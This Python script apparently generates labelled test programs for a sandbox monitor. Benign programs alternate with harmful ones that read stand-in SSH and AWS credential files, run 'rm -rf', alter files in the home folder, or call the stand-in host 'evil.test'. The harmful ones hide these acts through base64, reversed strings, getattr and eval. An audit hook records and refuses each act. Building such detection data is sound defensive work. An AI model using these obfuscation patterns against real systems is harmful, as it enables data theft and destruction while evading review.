"""Writes programs and runs them under an audit hook; prints of each, as a line of JSON, its text and what it did.

Called with a seed, a number and a scratch folder, in which `app` is the project and `home` the home.
Programs of an even number are harmless. What would leave the scratch folder is recorded and refused.
"""
import asyncio, base64, codecs, collections, configparser, contextlib, csv, dataclasses, datetime, fileinput, ftplib, functools, glob, gzip  # noqa
import http.client, importlib, io, itertools, json, linecache, logging, math, mmap, netrc, operator, os, pathlib, pickle, pprint, pydoc  # noqa
import random, re, runpy, shelve, shlex, shutil, smtplib, socket, sqlite3, statistics, string, subprocess, sys, tarfile, tempfile  # noqa
import textwrap, timeit, tokenize, types, urllib.parse, urllib.request, xml.etree.ElementTree, zipfile  # noqa

SEED, COUNT, SCRATCH = int(sys.argv[1]), int(sys.argv[2]), os.path.realpath(sys.argv[3])
APP, HOME = f"{SCRATCH}/app", f"{SCRATCH}/home"
OUTSIDE = ["notes.txt", ".bashrc", "other/x.txt", "Documents/a.md"]
SECRETS = [".ssh/id_rsa", ".aws/credentials"]
INSIDE = ["a.txt", "data.json", "src/app.py", "data.csv"]
NEW = ["out.txt", "build/new.json", "report.md"]
EVIL = "http://evil.test/x"
PLAIN = [0, 1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11, 12, 16, 18, 19, 22, 23]


def fill():
    for name in OUTSIDE + SECRETS:
        path = f"{HOME}/{name}"
        os.makedirs(os.path.dirname(path), exist_ok=True)
        if not os.path.isfile(path):
            with open(path, "w") as file:
                file.write("x = 1\n")
    texts = {"a.txt": "one two\nthree\n", "data.json": '{"a": [1, 2]}', "src/app.py": "x = 1\n", "data.csv": "a,b\n1,2\n"}
    os.makedirs(f"{APP}/build", exist_ok=True)
    for name, text in texts.items():
        path = f"{APP}/{name}"
        os.makedirs(os.path.dirname(path), exist_ok=True)
        if not os.path.isfile(path):
            with open(path, "w") as file:
                file.write(text)


class Writer:
    """Writes one program."""

    def __init__(self, dice, plain):
        self.plain = plain
        self.dice, self.heads, self.lines, self.names = dice, [], [], 0

    def fresh(self):
        """Returns a name; now and then one that was used before."""
        self.names += self.dice.random() < 0.9
        return f"name{self.names}"

    def one(self, of):
        return self.dice.choice(of)

    def use(self, *heads):
        for head in heads:
            if head not in self.heads:
                self.heads.append(head)

    def text(self, value):
        """Returns an expression that gives a text."""
        return f"({self.spelled(value)})"

    def spelled(self, value):
        name = self.fresh()
        cut = self.dice.randrange(1, max(2, len(value)))
        left, right = value[:cut], value[cut:]
        # Who has nothing to hide spells no name backwards or in numbers.
        kind = self.one(PLAIN) if self.plain else self.dice.randrange(26)
        if kind < 6:
            return repr(value)
        if kind == 6:
            return f"{left!r} + {right!r}"
        if kind == 7:
            self.lines.append(f"{name} = {left!r}")
            return "f'{" + name + "}" + right.replace("'", "") + "'" if "'" not in right else repr(value)
        if kind == 8:
            return f"''.join([{left!r}, {right!r}])"
        if kind == 9:
            return f"'%s%s' % ({left!r}, {right!r})"
        if kind == 10:
            return f"'{{}}{{}}'.format({left!r}, {right!r})"
        if kind == 11:
            self.lines.append(f"def {name}(x={left!r}):\n    return x + {right!r}")
            return f"{name}()"
        if kind == 12:
            self.lines.append(f"{name} = {{'k': [{value!r}]}}")
            return f"{name}['k'][0]"
        if kind == 13:
            return f"{value[::-1]!r}[::-1]"
        if kind == 14:
            self.use("import base64")
            return f"base64.b64decode({base64.b64encode(value.encode()).decode()!r}).decode()"
        if kind == 15:
            return f"bytes({list(value.encode())!r}).decode()"
        if kind == 16:
            self.lines.append(f"class {name}:\n    name = {value!r}\n    def get(self):\n        return self.name")
            return f"{name}().get()"
        if kind == 17:
            return f"(lambda x: x + {right!r})({left!r})"
        if kind == 18:
            self.lines.append(f"{name} = 'a'\nfor {name} in [{value!r}]:\n    pass")
            return name
        if kind == 19:
            self.lines.append(f"{name} = 'a.txt'\nif len(str({name})) > 2:\n    {name} = {value!r}")
            return name
        if kind == 20:
            self.lines.append(f"try:\n    {name} = undefined_name\nexcept NameError:\n    {name} = {value!r}")
            return name
        if kind == 21:
            return f"str({value!r}).replace('@', '@')"
        if kind == 22:
            return f"[it for it in [{value!r}]][0]"
        if kind == 23:
            self.lines.append(f"{name}, other = {value!r}, 1")
            return name
        if kind == 24:
            self.lines.append(f"{name} = 'a.txt'\ndef change():\n    global {name}\n    {name} = {value!r}\nchange()")
            return name
        self.use("import functools")
        return f"functools.reduce(lambda a, b: a + b, [{left!r}, {right!r}])"

    def path(self, value):
        """Returns an expression that gives a path, as a text."""
        kind = self.dice.randrange(10)
        if value.startswith(HOME + "/"):
            rest = value[len(HOME) + 1:]
            if kind == 0:
                self.use("import os")
                return f"os.path.expanduser({'~/' + rest!r})"
            if kind == 1:
                self.use("import os")
                return f"os.path.join(os.environ['HOME'], {rest!r})"
            if kind == 2:
                self.use("from pathlib import Path")
                return f"str(Path.home() / {self.text(rest)})"
            if kind == 3:
                return self.text(os.path.relpath(value, APP))
            if kind == 4:
                self.use("import os")
                return f"os.path.abspath(os.path.join('..', 'home', {self.text(rest)}))"
        elif not value.startswith("/") and kind == 0:
            self.use("import os")
            return f"os.path.join(os.getcwd(), {self.text(value)})"
        elif not value.startswith("/") and kind == 1:
            self.use("import os.path as p")
            return f"p.normpath({self.text('src/../' + value)})"
        return self.text(value)

    def made_path(self, value):
        """Returns an expression that gives a path of pathlib."""
        self.use("from pathlib import Path")
        if value.startswith(HOME + "/") and self.dice.random() < 0.4:
            return "Path.home().joinpath(" + self.text(value[len(HOME) + 1:]) + ")"
        if "/" in value.strip("/") and self.dice.random() < 0.4:
            folder, name = value.rsplit("/", 1)
            return f"(Path({self.text(folder)}) / {self.text(name)})"
        if self.dice.random() < 0.15:
            self.lines.append(f"where = Path({self.path(value)})")
            return self.one(["where", "where.parent / where.name", "where.with_name(where.name)", "where.resolve()"]).join("()")
        return f"Path({self.path(value)})"

    def wrap(self, statement):
        """Adds a statement, in some frame."""
        kind = self.dice.randrange(14)
        inner = textwrap.indent(statement, "    ")
        frames = {
            0: f"def run():\n{inner}\nrun()",
            1: f"if True:\n{inner}",
            2: f"for _ in range(1):\n{inner}",
            3: f"try:\n{inner}\nexcept ValueError:\n    pass",
            4: f"class It:\n    def __init__(self):\n{textwrap.indent(inner, '    ')}\nIt()",
            5: f"try:\n    1 / 0\nexcept ZeroDivisionError:\n{inner}",
            6: f"while True:\n{inner}\n    break",
            7: f"def deco(f):\n    f()\n    return f\n@deco\ndef go():\n{inner}",
            8: f"match 1:\n    case 1:\n{textwrap.indent(inner, '    ')}",
            9: f"try:\n    pass\nfinally:\n{inner}",
        }
        self.lines.append(frames.get(kind, statement))

    def program(self):
        return "\n".join(self.heads + self.lines) + "\n"

    # What programs do.

    def written(self, value):
        p, q = self.path, self.made_path
        forms = [
            lambda: f"open({p(value)}, 'w').write('x')",
            lambda: f"with open({p(value)}, mode={self.one(['a', 'w', 'w+', 'wb', 'r+'])!r}) as file:\n    file.close()",
            lambda: f"{q(value)}.write_text('x')",
            lambda: f"{q(value)}.open('w').close()",
            lambda: f"{q(value)}.touch()",
            lambda: (self.use("import os"), f"os.close(os.open({p(value)}, os.O_WRONLY | os.O_CREAT))")[1],
            lambda: (self.use("import shutil"), f"shutil.{self.one(['copy', 'copyfile', 'copy2'])}('a.txt', {p(value)})")[1],
            lambda: (self.use("import io"), f"io.open({p(value)}, 'w').close()")[1],
            lambda: (self.use("import gzip"), f"gzip.open({p(value)}, 'wt').close()")[1],
            lambda: (self.use("import zipfile"), f"zipfile.ZipFile({p(value)}, 'w').close()")[1],
            lambda: (self.use("import json"), f"json.dump([1], open({p(value)}, 'w'))")[1],
            lambda: (self.use("import csv"), f"csv.writer(open({p(value)}, 'w', newline='')).writerow([1])")[1],
            lambda: (self.use("import codecs"), f"codecs.open({p(value)}, 'w').close()")[1],
            lambda: f"print('x', file=open({p(value)}, 'w'))",
            lambda: (self.use("import logging"), f"logging.FileHandler({p(value)}).close()")[1],
            lambda: (self.use("import os"), f"os.makedirs({p(value)} + '.d', exist_ok=True)")[1],
            lambda: (self.use("from os import symlink"), f"symlink('a.txt', {p(value)} + '.l')")[1],
            lambda: (self.use("import sqlite3"), f"sqlite3.connect({p(value)} + '.db').close()")[1],
            lambda: (self.use("import tempfile, os"), f"tempfile.mkdtemp(dir=os.path.dirname({p(value)}))")[1],
            lambda: (self.use("import pickle"), f"pickle.dump(1, open({p(value)}, 'wb'))")[1],
            lambda: (self.use("import shelve"), f"shelve.open({p(value)} + '.s').close()")[1],
            lambda: (self.use("import tarfile"), f"tarfile.open({p(value)} + '.tar', 'w').close()")[1],
        ]
        self.wrap(self.one(forms)())

    def changed(self, value):
        p, q = self.path, self.made_path
        forms = [
            lambda: (self.use("import os"), f"os.{self.one(['remove', 'unlink'])}({p(value)})")[1],
            lambda: (self.use("from os import remove as gone"), f"gone({p(value)})")[1],
            lambda: f"{q(value)}.unlink()",
            lambda: f"{q(value)}.unlink(missing_ok=True)",
            lambda: (self.use("import shutil"), f"shutil.rmtree({p(os.path.dirname(value))})")[1],
            lambda: (self.use("import shutil as s"), f"s.rmtree({p(os.path.dirname(value))}, ignore_errors=True)")[1],
            lambda: (self.use("import os"), f"os.rename({p(value)}, 'moved.txt')")[1],
            lambda: (self.use("import os"), f"os.replace('a.txt', {p(value)})")[1],
            lambda: f"{q(value)}.rename({p(value)} + '.old')",
            lambda: f"{q(value)}.replace('gone.txt')",
            lambda: (self.use("import shutil"), f"shutil.move({p(value)}, 'here.txt')")[1],
            lambda: (self.use("import os"), f"os.truncate({p(value)}, 0)")[1],
            lambda: (self.use("import os"), f"os.chmod({p(value)}, 0o777)")[1],
            lambda: f"{q(value)}.chmod(0o600)",
            lambda: f"{q(value)}.write_bytes(b'')",
            lambda: (self.use("import os"), f"for one in [{p(value)}]:\n    os.unlink(one)")[1],
            lambda: (self.use("import os"), f"list(map(os.remove, [{p(value)}]))")[1],
            lambda: (self.use("import os, functools"), f"functools.partial(os.remove, {p(value)})()")[1],
            lambda: (self.use("import os"), f"getattr(os, 're' + 'move')({p(value)})")[1],
            lambda: (self.use("import glob, os"), f"for one in glob.glob(os.path.dirname({p(value)}) + '/*'):\n    os.remove(one)")[1],
            lambda: f"for one in {q(os.path.dirname(value))}.iterdir():\n    one.unlink()",
        ]
        self.wrap(self.one(forms)())

    def read(self, value):
        p, q = self.path, self.made_path
        forms = [
            lambda: f"print(open({p(value)}).read())",
            lambda: f"with open({p(value)}) as file:\n    for line in file:\n        print(line.strip())",
            lambda: f"print({q(value)}.read_text())",
            lambda: f"print(len({q(value)}.read_bytes()))",
            lambda: (self.use("import io"), f"print(io.open({p(value)}).readline())")[1],
            lambda: (self.use("import linecache"), f"print(linecache.getline({p(value)}, 1))")[1],
            lambda: (self.use("import os"), f"print(os.read(os.open({p(value)}, os.O_RDONLY), 9))")[1],
            lambda: (self.use("import fileinput"), f"print(list(fileinput.input({p(value)})))")[1],
            lambda: (self.use("import configparser"), f"try:\n    configparser.ConfigParser().read({p(value)})\nexcept configparser.Error:\n    pass")[1],
            lambda: (self.use("import csv"), f"print(list(csv.reader(open({p(value)}))))")[1],
            lambda: (self.use("import tokenize"), f"print(tokenize.open({p(value)}).read())")[1],
            lambda: (self.use("import codecs"), f"print(codecs.open({p(value)}).read())")[1],
            lambda: (self.use("import shutil"), f"shutil.copy({p(value)}, 'copy.txt')")[1],
            lambda: f"print([line for line in open({p(value)})])",
            lambda: (self.use("import json"), f"try:\n    print(json.load(open({p(value)})))\nexcept ValueError:\n    pass")[1],
            lambda: (self.use("import re"), f"print(re.findall(r'\\w+', open({p(value)}).read()))")[1],
            lambda: (self.use("from collections import Counter"), f"print(Counter(open({p(value)}).read().split()))")[1],
            lambda: f"print(*map(lambda it: it.read_text(), [{q(value)}]))",
        ]
        self.wrap(self.one(forms)())

    def ran(self, value):
        command = self.one([f"rm -rf {value}", f"touch {value}", f"cat {value}", f"rm {value}"])
        words = command.split(" ")
        tail = [self.path(words[-1])]
        listed = "[" + ", ".join([repr(it) for it in words[:-1]] + tail) + "]"
        text = self.text(command)
        folder, name = os.path.split(value)
        near = [*words[:-1], name]
        forms = [
            lambda: (self.use("import os"), f"os.system({text})")[1],
            lambda: (self.use("from os import system as s"), f"s({text})")[1],
            lambda: (self.use("import os"), f"os.popen({text}).read()")[1],
            lambda: (self.use("import subprocess"), f"subprocess.{self.one(['run', 'call', 'check_output', 'Popen'])}({listed})")[1],
            lambda: (self.use("import subprocess"), f"subprocess.run({text}, shell=True)")[1],
            lambda: (self.use("import subprocess"), f"subprocess.run({near!r}, cwd={self.path(folder)})")[1],
            lambda: (self.use("import subprocess"), f"subprocess.run({' '.join(near)!r}, shell=True, cwd={self.made_path(folder)})")[1],
            lambda: (self.use("import subprocess"), f"subprocess.run(['ls', *{words[1:]!r}], executable={words[0]!r})")[1],
            lambda: (self.use("import subprocess as sp"), f"sp.getoutput({text})")[1],
            lambda: (self.use("import os"), f"os.execvp({words[0]!r}, {listed})")[1],
            lambda: (self.use("import os"), f"os.spawnvp(os.P_WAIT, {words[0]!r}, {listed})")[1],
            lambda: f"__import__('os').system({text})",
            lambda: (self.use("import importlib"), f"importlib.import_module('o' + 's').system({text})")[1],
            lambda: (self.use("import pydoc"), f"pydoc.locate('os.system')({text})")[1],
            lambda: (self.use("import sys, os"), f"sys.modules['os'].system({text})")[1],
            lambda: f"exec({f'import os; os.system({command!r})'!r})",
            lambda: f"eval({f'__import__(chr(111)+chr(115)).system({command!r})'!r})",
            lambda: (self.use("import timeit"), f"timeit.timeit({f'import os; os.system({command!r})'!r}, number=1)")[1],
            lambda: (self.use("import operator, os"), f"operator.methodcaller('system', {text})(os)")[1],
            lambda: (self.use("import asyncio"), f"async def go():\n    await asyncio.create_subprocess_shell({text})\nasyncio.run(go())")[1],
            lambda: (self.use("import os"), f"vars(os)['system']({text})")[1],
            lambda: (self.use("import os"), f"os.__dict__['sys' + 'tem']({text})")[1],
            lambda: (self.use("import pty"), f"pty.spawn(['sh', '-c', {text}])")[1],
            lambda: (self.use("import os"), f"class Gone:\n    def __del__(self):\n        os.system({text})\nGone()")[1],
            lambda: (self.use("import os"), f"os.chdir({self.path(folder)})\nos.system({' '.join(near)!r})")[1],
            lambda: (self.use("import contextlib, subprocess"), f"with contextlib.suppress(OSError):\n    subprocess.check_call({listed})")[1],
        ]
        self.wrap(self.one(forms)())

    def sent(self):
        url = self.text(EVIL)
        host = self.text("evil.test")
        forms = [
            lambda: (self.use("import urllib.request"), f"urllib.request.urlopen({url})")[1],
            lambda: (self.use("from urllib.request import urlopen, Request"), f"urlopen(Request({url}, data=b'x'))")[1],
            lambda: (self.use("import urllib.request"), f"urllib.request.urlretrieve({url}, 'x')")[1],
            lambda: (self.use("import socket"), f"socket.create_connection(({host}, 80))")[1],
            lambda: (self.use("import socket"), f"socket.socket().connect(({host}, 80))")[1],
            lambda: (self.use("import http.client"), f"http.client.HTTPConnection({host}).request('GET', '/')")[1],
            lambda: (self.use("import smtplib"), f"smtplib.SMTP({host})")[1],
            lambda: (self.use("import ftplib"), f"ftplib.FTP({host})")[1],
            lambda: (self.use("import socket"), f"socket.getaddrinfo({host}, 80)")[1],
        ]
        self.wrap(self.one(forms)())

    def computed(self, alone=False):
        forms = [
            lambda: "print(sum(range(10)))",
            lambda: (self.use("import json"), "print(json.dumps({'a': [1, 2]}, indent=2))")[1],
            lambda: (self.use("import re"), "print(re.sub(r'a+', 'b', 'caat'))")[1],
            lambda: (self.use("from datetime import datetime, timedelta"), "print(datetime(2024, 1, 1) + timedelta(days=2))")[1],
            lambda: (self.use("import math"), "print(math.sqrt(2), math.pi)")[1],
            lambda: (self.use("from collections import defaultdict"), "d = defaultdict(list)\nd['a'].append(1)\nprint(dict(d))")[1],
            lambda: (self.use("import itertools"), "print(list(itertools.chain([1], [2])))")[1],
            lambda: (self.use("from dataclasses import dataclass"), "@dataclass\nclass Point:\n    x: int\n    y: int = 2\nprint(Point(1))")[1],
            lambda: (self.use("import statistics"), "print(statistics.mean([1, 2, 3]))")[1],
            lambda: (self.use("import sys"), "print(sys.version, sys.argv[1:])")[1],
            lambda: (self.use("import os"), "print(sorted(os.listdir('.')))")[1],
            lambda: (self.use("from pathlib import Path"), "print([it.name for it in Path('.').glob('*.txt')])")[1],
            lambda: (self.use("import os"), "for root, folders, files in os.walk('src'):\n    print(root, len(files))")[1],
            lambda: (self.use("import textwrap"), "print(textwrap.dedent('  a'))")[1],
            lambda: (self.use("import urllib.parse as u"), "print(u.urlparse('http://a/b').netloc, u.quote('a b'))")[1],
            lambda: (self.use("import ast"), "print(ast.dump(ast.parse('x = 1')))")[1],
            lambda: (self.use("import hashlib"), "print(hashlib.sha256(b'x').hexdigest())")[1],
            lambda: (self.use("import time"), "start = time.time()\nprint(time.time() - start)")[1],
            lambda: (self.use("import subprocess"), "print(subprocess.run(['git', 'status'], capture_output=True, text=True).stdout)")[1],
            lambda: (self.use("from subprocess import check_output"), "print(check_output(['ls', '-la']).decode())")[1],
            lambda: (self.use("import xml.etree.ElementTree as ET"), "print(ET.fromstring('<a><b/></a>').find('b').tag)")[1],
            lambda: (self.use("import random"), "random.seed(1)\nprint(random.choice([1, 2]), random.shuffle([1]))")[1],
            lambda: (self.use("import enum"), "class Color(enum.Enum):\n    RED = 1\nprint(Color.RED.name)")[1],
            lambda: (self.use("from typing import Optional"), "def f(x: Optional[int] = None) -> str:\n    return f'{x!r:>4}'\nprint(f(3))")[1],
            lambda: "matrix = [[1, 2], [3, 4]]\nprint([list(row) for row in zip(*matrix)])",
            lambda: (self.use("import asyncio"), "async def main():\n    await asyncio.sleep(0)\n    return 1\nprint(asyncio.run(main()))")[1],
            lambda: (self.use("import string, secrets"), "print(string.ascii_letters[:3])")[1],
            lambda: (self.use("from functools import lru_cache"), "@lru_cache(maxsize=None)\ndef fib(n):\n    return n if n < 2 else fib(n - 1) + fib(n - 2)\nprint(fib(10))")[1],
            lambda: (self.use("import decimal"), "print(decimal.Decimal('1.1') + 1)")[1],
            lambda: "text = 'a-b'\nprint(text.split('-'), text.upper().encode('utf-8').hex())",
        ]
        # What runs a program ends here, so nothing that counts may follow it.
        form = self.one(forms)()
        while alone and "output" in form:
            form = self.one(forms)()
        self.wrap(form)


def harmless(it):
    for _ in range(it.dice.randrange(1, 3)):
        kind = it.dice.randrange(4)
        if kind < 2:
            it.computed()
        elif kind == 2:
            it.read(it.one(INSIDE))
        else:
            it.written(it.one(NEW))


def harmful(it):
    if it.dice.random() < 0.3:
        it.computed(alone=True)
    kind = it.dice.randrange(6)
    outside = f"{HOME}/{it.one(OUTSIDE)}"
    if kind == 0:
        it.written(outside)
    elif kind == 1:
        it.changed(outside)
    elif kind == 2:
        it.read(f"{HOME}/{it.one(SECRETS)}")
    elif kind in (3, 4):
        it.ran(outside)
    else:
        it.sent()


class Refused(BaseException):
    """Ends a program that would leave the scratch folder."""


def watch(acts):
    """Records what the running program does."""
    busy, trees = [], []  # Within a tree that is deleted, names are said from the folder they lie in.

    def place(path, folder=None):
        if isinstance(path, bytes):
            path = os.fsdecode(path)
        return os.path.normpath(os.path.join(os.getcwd(), folder or "", path))

    def command(words, folder):
        if isinstance(words, (str, bytes)):
            words = [os.fsdecode(words)]
        words = [os.fsdecode(it) for it in words]
        if len(words) > 2 and words[0].endswith("sh") and words[1] == "-c":
            words = shlex.split(words[2])
        verbs = {"rm": "delete", "touch": "write", "cat": "read"}
        name = os.path.basename(words[0]) if words else ""
        if name in verbs:
            acts.append([verbs[name], place(words[-1], folder)])
        elif name not in ("ls", "git", "stty", "uname", "ldconfig", "gcc"):
            acts.append(["run", " ".join(words)])

    def happened(event, args):
        if event == "open":
            path, mode, flags = args
            if isinstance(path, int) or path is None:
                return
            if trees and not os.path.isabs(os.fsdecode(path)):
                return
            path = place(path)
            writes = any(it in (mode or "") for it in "wax+") or (flags or 0) & (os.O_WRONLY | os.O_RDWR | os.O_CREAT | os.O_TRUNC)
            if path.startswith(SCRATCH) and (writes or not os.path.isdir(path)):
                acts.append(["write" if writes else "read", path])
            elif writes and not path.startswith(("/dev/", "/proc/")):
                acts.append(["write", path])
                raise Refused
        elif event == "shutil.rmtree":
            trees.append(args[0])
            acts.append(["delete", place(args[0])])
        elif event in ("os.remove", "os.rmdir"):
            if not trees:
                acts.append(["delete", place(args[0])])
        elif event == "os.rename":
            acts.append(["delete", place(args[0])])
            acts.append(["write", place(args[1])])
        elif event in ("os.mkdir", "os.truncate", "os.chmod", "os.chown", "os.utime"):
            if not isinstance(args[0], int):
                acts.append(["write", place(args[0])])
        elif event in ("os.symlink", "os.link"):
            acts.append(["write", place(args[1])])
        elif event == "sqlite3.connect" and args[0] != ":memory:":
            # An empty file that it may leave is no act of note: the client on the command line leaves one too.
            acts.append(["read", place(args[0])])
        elif event == "subprocess.Popen":
            executable, words, cwd, _env = args
            words = [words] if isinstance(words, (str, bytes)) else list(words)
            if executable is not None and os.path.basename(os.fsdecode(executable)) not in ("sh", "bash"):
                words[0] = executable
            command(words, os.fspath(cwd) if cwd else None)
            raise Refused
        elif event == "os.system":
            command(["sh", "-c", os.fsdecode(args[0])], None)
            raise Refused
        elif event in ("os.exec", "os.posix_spawn"):
            command(list(args[1]), None)
            raise Refused
        elif event == "os.spawn":
            command(list(args[2]), None)
            raise Refused
        elif event == "pty.spawn":
            command(list(args[0]), None)
            raise Refused
        elif event in ("socket.connect", "socket.getaddrinfo", "socket.gethostbyname", "socket.bind"):
            host = args[1][0] if event in ("socket.connect", "socket.bind") and isinstance(args[1], tuple) else args[0]
            acts.append(["send", str(host)])
            raise Refused

    def hook(event, args):
        if busy:
            return
        busy.append(event)
        try:
            happened(event, args)
        finally:
            busy.pop()

    sys.addaudithook(hook)


def run(program):
    """Runs a program in a process of its own; returns what it did."""
    gets, gives = os.pipe()
    child = os.fork()
    if child:
        os.close(gives)
        with os.fdopen(gets) as answer:
            text = answer.read()
        os.waitpid(child, 0)
        return json.loads(text or "[]")
    acts, main = [], os.getpid()
    try:
        os.close(gets)
        quiet = os.open(os.devnull, os.O_RDWR)
        for at in range(3):
            os.dup2(quiet, at)
        os.chdir(APP)
        os.environ["HOME"] = HOME
        sys.argv = ["-"]
        code = compile(program, "<stdin>", "exec")
        watch(acts)
        exec(code, {"__name__": "__main__"})
    except BaseException:
        pass
    if os.getpid() != main:
        os._exit(0)
    os.write(gives, json.dumps(acts).encode())
    os._exit(0)


def main():
    dice = random.Random(SEED)
    for number in range(COUNT):
        fill()
        it = Writer(dice, plain=number % 2 == 0)
        (harmless if it.plain else harmful)(it)
        program = it.program()
        print(json.dumps({"program": program, "harmless": it.plain, "acts": run(program)}), flush=True)


main()
